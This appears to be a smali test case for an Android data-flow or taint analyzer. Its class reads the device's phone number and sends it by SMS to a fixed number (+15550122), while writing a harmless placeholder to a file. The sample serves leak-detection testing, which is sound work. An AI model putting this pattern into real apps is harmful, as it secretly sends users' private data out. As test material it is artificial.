.class public final Lorg/appxray/test/flows/ArrayFlow;
.super Ljava/lang/Object;

# info() returns {phone number, "none"}; send() writes element 1 (not the
# number) to array.txt and sends element 0 (the number) by SMS.

.method public static info(Landroid/telephony/TelephonyManager;)[Ljava/lang/String;
    .registers 4
    const/4 v0, 0x2
    new-array v0, v0, [Ljava/lang/String;
    invoke-virtual {p0}, Landroid/telephony/TelephonyManager;->getLine1Number()Ljava/lang/String;
    move-result-object v1
    const/4 v2, 0x0
    aput-object v1, v0, v2
    const-string v1, "none"
    const/4 v2, 0x1
    aput-object v1, v0, v2
    return-object v0
.end method

.method public static send(Landroid/telephony/TelephonyManager;)V
    .registers 8
    invoke-static {p0}, Lorg/appxray/test/flows/ArrayFlow;->info(Landroid/telephony/TelephonyManager;)[Ljava/lang/String;
    move-result-object v6
    const/4 v0, 0x1
    aget-object v0, v6, v0
    new-instance v1, Ljava/io/FileWriter;
    const-string v2, "array.txt"
    invoke-direct {v1, v2}, Ljava/io/FileWriter;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1, v0}, Ljava/io/Writer;->write(Ljava/lang/String;)V
    const/4 v0, 0x0
    aget-object v3, v6, v0
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "+15550122"
    const/4 v2, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
